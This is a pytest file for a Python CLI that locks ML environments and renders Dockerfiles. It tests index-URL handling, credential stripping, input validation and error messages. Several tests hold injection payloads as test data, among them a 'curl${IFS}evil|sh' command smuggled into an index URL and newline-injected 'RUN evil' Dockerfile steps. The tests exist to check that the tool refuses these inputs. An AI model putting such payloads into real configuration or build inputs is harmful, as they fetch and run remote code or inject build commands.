"""Artifacts that install as written, and nothing unsafe gets into them: the lock is portable,
credentials never land in a generated file, values are validated and quoted, specs without a
framework render, conda packages are never dropped silently. CLI tests through CliRunner on the
shipped data, with exact exit codes and messages."""

import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner, Result

from envsolve.cli import main
from envsolve.domain import DEFAULT_INDEXES, qualified_image
from tests.conftest import TEST_INDEXES

SECRET = "S3CRET"
TORCH_CU118 = '[project]\nname = "demo"\n[frameworks]\ntorch = "*"\n[hardware]\ngpus = ["RTX 3090"]\ncuda = "11.8"\n'


@pytest.fixture
def nothing_configured(monkeypatch: pytest.MonkeyPatch) -> None:
    for k in TEST_INDEXES:
        monkeypatch.delenv(k)


def lock(tmp_path: Path, text: str, *args: str) -> Result:
    spec = tmp_path / "project.toml"
    spec.write_text(text)
    return CliRunner().invoke(main, ["lock", str(spec), *args])


def written(tmp_path: Path) -> dict[str, str]:
    return {str(p.relative_to(tmp_path)): p.read_text() for p in sorted(tmp_path.rglob("*"))
            if p.is_file() and p.name != "project.toml"}


# ----------------------------------------------------------------------------- 1, 2: indexes, portable lock


def test_two_pip_configurations_give_byte_identical_locks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                          nothing_configured: None) -> None:
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nindex-url = https://ci-mirror.invalid/simple\n"
                    "extra-index-url = https://ci-mirror.invalid/torch/whl\n")
    locks = []
    for env in ({"PIP_CONFIG_FILE": "/dev/null"}, {"PIP_CONFIG_FILE": str(conf)},
                {"PIP_INDEX_URL": "https://dev-mirror.invalid/simple"}):
        for k, v in env.items():
            monkeypatch.setenv(k, v)
        out = tmp_path / f"{len(locks)}"
        out.mkdir()
        r = lock(out, TORCH_CU118)
        assert r.exit_code == 0, r.output
        locks.append((out / "envsolve.lock").read_bytes())
        monkeypatch.delenv("PIP_INDEX_URL", raising=False)
    assert locks[0] == locks[1] == locks[2]
    text = locks[0].decode()
    assert '[indexes]\npypi = ""\npytorch = "https://download.pytorch.org/whl"\n' in text
    assert 'index_url = "https://download.pytorch.org/whl/cu118"' in text and "mirror" not in text


def test_pytorch_builds_come_from_their_index_alone(tmp_path: Path, nothing_configured: None) -> None:
    r = lock(tmp_path, TORCH_CU118, "--render")
    assert r.exit_code == 0, r.output
    files = written(tmp_path / "envsolve-out" / "default")
    lines = [ln.strip(' "-') for text in files.values() for ln in text.splitlines()]
    assert not any(ln.startswith("extra-index-url") for ln in lines)
    torch_pin = next(ln for ln in files["requirements-pytorch.txt"].splitlines() if ln.startswith("torch=="))
    assert torch_pin.endswith("+cu118")
    assert files["requirements-pytorch.txt"].splitlines()[4:] == [
        f"--index-url {DEFAULT_INDEXES['pytorch']}/cu118", torch_pin]
    req = [ln for ln in files["requirements.txt"].splitlines() if not ln.startswith("#")]
    assert req == [torch_pin]  # held at its version; no --index-url: pip's own configuration
    docker = files["Dockerfile"]
    assert f'ARG ENVSOLVE_INDEX_PYTORCH="{DEFAULT_INDEXES["pytorch"]}"\n' in docker
    assert f'pip install --index-url "${{ENVSOLVE_INDEX_PYTORCH}}/cu118" \\\n        {torch_pin}\n' in docker


# ----------------------------------------------------------------------------- 3: no secret is ever written


DROPPED = ("credentials (user, password, query or fragment) were dropped from the index URL; nothing generated carries "
           "them. A user and password reach uv (the full lock, sync) and `envsolve build` as a netrc; a token in the "
           "query or fragment does not: give it to pip at install time (pip.conf). See README 'Credentials'")


def test_no_secret_lands_in_the_lock_or_any_artifact(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", f"https://bot:{SECRET}@mirror.invalid/simple")
    monkeypatch.setenv("ENVSOLVE_INDEX_PYTORCH", f"https://bot:{SECRET}@mirror.invalid/whl?token={SECRET}")
    text = TORCH_CU118 + f'[indexes]\npypi = "https://bot:{SECRET}@mirror.invalid/simple"\n'
    r = lock(tmp_path, text, "--render")
    assert r.exit_code == 0, r.output
    files = written(tmp_path)
    assert len(files) == 6 and SECRET not in "".join(files.values())
    assert SECRET not in r.output
    spec = tmp_path / "project.toml"
    assert r.stderr.splitlines()[:2] == [
        f"WARNING: {spec} [indexes] pypi: {DROPPED}", f"WARNING: environment variable ENVSOLVE_INDEX_PYTORCH: {DROPPED}"]
    docker = files["envsolve-out/default/Dockerfile"]
    assert 'ARG ENVSOLVE_INDEX_PYPI="https://mirror.invalid/simple"' in docker
    assert "--mount=type=secret,id=pip.conf,target=/etc/pip.conf" in docker
    assert "--mount=type=secret,id=netrc,target=/root/.netrc" in docker


# ----------------------------------------------------------------------------- 4: no injection, no breakage


@pytest.mark.parametrize(("text", "env", "message"), [
    ('[indexes]\npytorch = "https://x/;curl${IFS}evil|sh;#"\n', {},
     "ERROR: {spec}: indexes.pytorch: 'https://x/;curl${{IFS}}evil|sh;#' must be an index URL (http, https or "
     "file) without whitespace, quotes or shell metacharacters\n"
     "TIP: edit {spec} at the keys named above, then run envsolve again\n"),
    ('[indexes]\npytorch = "https://x/whl\\nRUN evil"\n', {},
     "ERROR: {spec}: indexes.pytorch: 'https://x/whl\\nRUN evil' must be an index URL (http, https or file) "
     "without whitespace, quotes or shell metacharacters\n"
     "TIP: edit {spec} at the keys named above, then run envsolve again\n"),
    ("", {"ENVSOLVE_INDEX_PYTORCH": "https://x/whl\nRUN evil"},
     "ERROR: ENVSOLVE_INDEX_PYTORCH: 'https://x/whl\\nRUN evil' must be an index URL (http, https or file) "
     "without whitespace, quotes or shell metacharacters\n"
     "TIP: set each index to an http(s) URL without whitespace, quotes or shell metacharacters, e.g. "
     "ENVSOLVE_INDEX_PYTORCH=https://your.mirror/whl\n"),
    ("", {"ENVSOLVE_INDEX_PYPI": "https://x/simple'; evil"},
     "ERROR: ENVSOLVE_INDEX_PYPI: \"https://x/simple'; evil\" must be an index URL (http, https or file) "
     "without whitespace, quotes or shell metacharacters\n"
     "TIP: set each index to an http(s) URL without whitespace, quotes or shell metacharacters, e.g. "
     "ENVSOLVE_INDEX_PYTORCH=https://your.mirror/whl\n"),
    ('[targets."amd\\n"]\ngpus = ["MI300X"]\n', {},
     "ERROR: {spec}: targets.amd\\n: 'amd\\n': target names are letters, digits, '.', '_' or '-' and not "
     "'default'\nTIP: edit {spec} at the keys named above, then run envsolve again\n"),
])
def test_bad_values_exit_2_naming_file_key_and_value(text: str, env: dict[str, str], message: str, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    r = lock(tmp_path, TORCH_CU118 + text, "--render")
    assert r.exit_code == 2
    assert r.output == message.format(spec=tmp_path / "project.toml")
    assert "Traceback" not in r.output and written(tmp_path) == {}


def test_a_matrix_repository_with_a_newline_is_refused(tmp_path: Path) -> None:
    m = tmp_path / "images.toml"
    m.write_text('[matrix]\npython = ["3.12"]\ntorch = ["2.7.1"]\naccelerator = ["cpu"]\n'
                 '[image]\nrepository = "a\\nRUN evil"\n')
    r = CliRunner().invoke(main, ["matrix", str(m), "--render", str(tmp_path / "out")])
    assert r.exit_code == 2
    assert r.output == (f"ERROR: {m}: image.repository: 'a\\nRUN evil' is not an image repository such as "
                        "'registry.example/team/ml' (lower case, no tag, no whitespace)\n"
                        f"TIP: edit {m} at the keys named above\n")
    assert not (tmp_path / "out").exists()


def test_environment_markers_keep_environment_yml_valid_yaml(tmp_path: Path) -> None:
    pip = ['numpy<2', 'pywin32; sys_platform == "win32"', "requests[socks]>=2; python_version >= '3.8'"]
    r = lock(tmp_path, f'[project]\nname = "demo"\n[packages]\npip = {pip!r}\n'.replace("'numpy", '"numpy')
             .replace("<2'", '<2"'), "--render")
    assert r.exit_code == 0, r.output
    out = tmp_path / "envsolve-out" / "default"
    doc = yaml.safe_load((out / "environment.yml").read_text())
    assert doc["dependencies"][-1]["pip"][-3:] == sorted(pip)
    docker = (out / "Dockerfile").read_text()
    assert "        'pywin32; sys_platform == \"win32\"'" in docker  # one shell word
    assert "        'numpy<2'" in docker


def test_a_hand_made_lock_with_a_line_break_is_refused_by_render(tmp_path: Path) -> None:
    from envsolve.lock import model as lockfile
    from envsolve.render.artifacts import render_environment

    r = lock(tmp_path, TORCH_CU118)
    assert r.exit_code == 0, r.output
    data = lockfile.read(tmp_path / "envsolve.lock")
    env = data.environments[0]
    import msgspec.structs

    bad = msgspec.structs.replace(env, apt=("libgl1\nRUN evil",))
    data = msgspec.structs.replace(data, environments=(bad,))
    with pytest.raises(Exception) as e:
        render_environment(data, bad)
    assert e.value.exit_code == 2  # type: ignore[attr-defined]
    assert str(e.value.message).startswith(  # type: ignore[attr-defined]
        "envsolve.lock: environments[0].apt[0] = 'libgl1\\nRUN evil' contains a line break")


# ----------------------------------------------------------------------------- 5: specs without a framework


def _dockerfile_ok(path: Path) -> None:
    from dockerfile_parse import DockerfileParser

    (path.parent / "parsed").mkdir()
    parser = DockerfileParser(path=str(path.parent / "parsed"))  # it writes what it parses
    parser.content = path.read_text()
    instructions = [i["instruction"] for i in parser.structure if i["instruction"] != "COMMENT"]
    if instructions.count("FROM") == 2:  # a CPU image ends with its smoke stage
        assert instructions[-2:] == ["FROM", "RUN"] and parser.structure[-1]["value"] == "python smoke_test.py --allow-cpu"
        instructions = instructions[:-2]
    assert instructions[-4:] == ["WORKDIR", "COPY", "USER", "CMD"]
    assert instructions.count("COPY") == 1
    exe = shutil.which("hadolint")
    if exe is not None:
        out = subprocess.run([exe, "--failure-threshold", "error", "--no-color", str(path)], capture_output=True,
                             text=True)
        assert out.returncode == 0, out.stdout + out.stderr


def test_a_pip_only_cpu_spec_renders_a_dockerfile_that_parses(tmp_path: Path) -> None:
    r = lock(tmp_path, '[project]\nname = "demo"\n[packages]\npip = ["numpy<2"]\n', "--render")
    assert r.exit_code == 0, r.output
    docker = tmp_path / "envsolve-out" / "default" / "Dockerfile"
    _dockerfile_ok(docker)
    assert "\\\n\n" not in docker.read_text()  # no continuation into an empty line


@pytest.mark.parametrize(("hardware", "image"), [
    ('gpus = ["A100"]', "nvidia/cuda:13.3.1-base-ubuntu26.04"),
    ('gpus = ["A100"]\ndriver = "470.57.02"', "nvidia/cuda:11.4.3-base-ubuntu20.04"),
    ('gpus = ["K80"]', "nvidia/cuda:11.4.3-base-ubuntu20.04"),  # R470 is the newest branch for Kepler
])
def test_a_gpu_spec_without_a_framework_gets_a_plain_cuda_image(hardware: str, image: str, tmp_path: Path) -> None:
    r = lock(tmp_path, f'[project]\nname = "demo"\n[hardware]\n{hardware}\n[packages]\npip = ["numpy"]\n',
             "--render")
    assert r.exit_code == 0, r.output
    assert "Traceback" not in r.output
    docker = tmp_path / "envsolve-out" / "default" / "Dockerfile"
    _dockerfile_ok(docker)
    text = docker.read_text()
    assert f"FROM {qualified_image(image)} AS runtime\n" in text
    assert "NVIDIA_VISIBLE_DEVICES=all" in text and "NVIDIA_DRIVER_CAPABILITIES=compute,utility" in text


# ----------------------------------------------------------------------------- 6: conda packages


def test_conda_packages_are_refused_by_the_dockerfile_and_kept_by_environment_yml(tmp_path: Path) -> None:
    r = lock(tmp_path, '[project]\nname = "demo"\n[packages]\nconda = ["ffmpeg", "sox"]\n')
    assert r.exit_code == 0, r.output
    lock_path = tmp_path / "envsolve.lock"
    r = CliRunner().invoke(main, ["render", str(lock_path)])
    assert r.exit_code == 2
    assert r.output == (
        "ERROR: environment 'default': the Dockerfile cannot install conda packages (ffmpeg, sox): its image has "
        "no conda\nTIP: move each to [packages] apt (a Debian package of the same name, e.g. 'ffmpeg') or "
        "[packages] pip; or render without the Dockerfile (`envsolve render --no-dockerfile`): environment.yml "
        "carries them\n")
    assert not (tmp_path / "envsolve-out").exists()
    r = CliRunner().invoke(main, ["render", str(lock_path), "--no-dockerfile"])
    assert r.exit_code == 0, r.output
    out = tmp_path / "envsolve-out" / "default"
    assert sorted(p.name for p in out.iterdir()) == ["environment.yml", "requirements.txt", "smoke_test.py"]
    assert yaml.safe_load((out / "environment.yml").read_text())["dependencies"][1:] == ["ffmpeg", "sox"]


# ----------------------------------------------------------------------------- 8: Python inside images


def test_the_os_python_is_used_where_the_base_os_ships_the_locked_one(tmp_path: Path) -> None:
    r = lock(tmp_path, '[project]\nname = "demo"\npython = "==3.12.*"\n[frameworks]\ntorch = "==2.7.1"\n'
             '[hardware]\ngpus = ["A100"]\n[container]\nos = "ubuntu24.04"\n', "--render")
    assert r.exit_code == 0, r.output
    text = (tmp_path / "envsolve-out" / "default" / "Dockerfile").read_text()
    assert "# 2. Python 3.12 (the OS's python3, from apt above)\n" in text
    assert "uv" not in text and "RUN python3 -m venv /opt/venv\n" in text


def test_uv_installs_other_pythons_and_takes_a_mirror(tmp_path: Path) -> None:
    r = lock(tmp_path, '[project]\nname = "demo"\npython = "==3.11.*"\n[frameworks]\ntorch = "==2.7.1"\n'
             '[hardware]\ngpus = ["A100"]\n[container]\nos = "ubuntu24.04"\n', "--render")
    assert r.exit_code == 0, r.output
    text = (tmp_path / "envsolve-out" / "default" / "Dockerfile").read_text()
    assert "ARG UV_PYTHON_INSTALL_MIRROR\n" in text
    assert "/opt/uv/bin/uv python install 3.11" in text
    assert "--seed" not in text  # the venv's pip comes with the interpreter (ensurepip), not from an index


# ----------------------------------------------------------------------------- 10: messages


@pytest.mark.parametrize(("text", "message"), [
    ("[project]\nname = 'x'\n[hardware]\ngpus = " + "[" * 5000 + "]" * 5000 + "\n",
     "ERROR: {spec}: nests tables or arrays too deeply to be a project file\n"
     "TIP: a project.toml is a few flat tables; `envsolve init` writes one with comments\n"),
    ("[project]\nname = 'x'\n[hardware]\ngpu = ['A100']\n[targets.b]\nvendor = 'cpu'\n[targets.c]\nvendor = 'cpu'\n",
     "ERROR: {spec}: hardware.gpu: unknown key (allowed: accelerator, cuda, driver, gpus, jetpack, platform, rocm, rocm_driver, vendor, wsl); did you mean 'gpus'?\n"
     "TIP: edit {spec} at the keys named above, then run envsolve again\n"),
    ("[project]\nname = 'x'\n[hardware]\ngpus = ['A100', 'MI300X']\n",
     "ERROR: {spec}: hardware.gpus: mixes NVIDIA and AMD GPUs; put each vendor in its own [targets.NAME]\n"
     "TIP: edit {spec} at the keys named above, then run envsolve again\n"),
])
def test_spec_messages(text: str, message: str, tmp_path: Path) -> None:
    r = lock(tmp_path, text)
    assert r.exit_code == 2
    assert r.output == message.format(spec=tmp_path / "project.toml")


def test_shard_without_max_jobs_is_an_error(tmp_path: Path) -> None:
    m = tmp_path / "images.toml"
    m.write_text('[matrix]\npython = ["3.12"]\ntorch = ["2.7.1"]\naccelerator = ["cpu"]\n')
    r = CliRunner().invoke(main, ["matrix", str(m), "--format", "github", "--shard", "1"])
    assert r.exit_code == 2
    assert r.output == ("ERROR: --shard: 1: needs --max-jobs N, which cuts the jobs into shards\n"
                        "TIP: add --max-jobs 256 (GitHub's limit per matrix), or leave --shard out\n")


def test_lock_host_with_an_unknown_gpu_names_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ENVSOLVE_GPUS", "Z9000")
    r = lock(tmp_path, "[project]\nname = 'x'\n[frameworks]\ntorch = '*'\n", "--host")
    assert r.exit_code == 2
    assert r.stderr.endswith(
        "ERROR: ENVSOLVE_GPUS: GPU 0: unknown GPU 'Z9000'; did you mean 'T1000'? (or write an architecture: "
        "sm_80, 8.0, gfx942)\nTIP: describe the GPUs by architecture instead, e.g. ENVSOLVE_GPUS=sm_90 (or "
        "gfx942), or update envsolve's data\n")
    assert not (tmp_path / "envsolve.lock").exists()


@pytest.mark.parametrize(("case", "flags"), [("jetson-agx-orin-jetpack6", "--runtime nvidia"),
                                              ("h100-torch-newest", "--gpus all"),
                                              ("mi300x-torch", "--device=/dev/kfd --device=/dev/dri --group-add video "
                                                               "--group-add render")])
def test_the_smoke_test_asks_for_the_run_flags_the_dockerfile_names(case: str, flags: str) -> None:
    # one answer for how a GPU container runs: the smoke test's hint is domain.gpu_run_flags, as the Dockerfile's
    import ast
    import json
    import re

    from envsolve.lock.model import read
    from envsolve.render.artifacts import render_environment

    lock = read(Path(__file__).parent / "cases" / case / "expected.lock")
    out = render_environment(lock, lock.environments[0])
    literal = re.search(r"EXPECTED: dict\[str, Any\] = json.loads\((.*)\)  #", out["smoke_test.py"])
    assert literal is not None
    expected = json.loads(ast.literal_eval(literal.group(1)))
    assert expected["run_flags"] == flags
    assert f" {flags} " in next(line for line in out["Dockerfile"].splitlines() if "docker run" in line)


def test_nvidias_jetpack_wheel_folder_is_installed_with_find_links_at_the_wheels_own_version() -> None:
    # NVIDIA's jp/vXYZ folders are plain listings of files (pip's --find-links), not PEP 503 indexes;
    # the pin is the wheel's own version, which only that folder has (public report:
    # https://github.com/Qengineering/Jetson-Nano-Ubuntu-20-image/issues/17, tensorflow==2.7.0+nv22.1)
    from envsolve.lock.model import read
    from envsolve.render.artifacts import render_environment

    lock = read(Path(__file__).parent / "cases" / "jetson-nano-tensorflow-jetpack461" / "expected.lock")
    out = render_environment(lock, lock.environments[0])
    assert ('pip install --find-links "${ENVSOLVE_INDEX_JETSON_REDIST}/jp/v461/tensorflow" \\\n'
            "        tensorflow==2.7.0+nv22.1") in out["Dockerfile"]
    assert "--index-url" not in out["Dockerfile"].split("# 3.")[1].split("# 5.")[0]
